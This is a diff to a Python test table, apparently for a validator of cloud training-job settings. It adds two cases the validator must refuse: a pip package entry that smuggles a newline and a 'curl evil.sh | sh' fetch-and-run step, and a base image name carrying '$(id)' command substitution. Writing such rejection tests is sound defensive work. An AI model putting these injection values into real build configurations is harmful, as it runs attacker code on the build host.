@@ -120,6 +120,11 @@ CASES = [
      "requires a service account"),
     ("bad-service-account", _set("service_account", "trainer"), "service_account", "invalid format"),
     ("bad-network", _set("network", "my-vpc"), "network", "invalid format"),
+    ("hostile-pip-package", _set("image", {"repository": "us-docker.pkg.dev/p/r/t",
+                                           "pip_packages": ["pandas\nRUN curl evil.sh | sh"]}),
+     "image.pip_packages[0]", "refused"),
+    ("hostile-base-image", _set("image", {"repository": "us-docker.pkg.dev/p/r/t",
+                                          "base_image": "python:3.11$(id)"}), "image.base_image", "refused"),
     ("kms-region", _set("encryption_key", "projects/p/locations/europe-west4/keyRings/r/cryptoKeys/k"),
      "encryption_key", "europe-west4"),
 ]
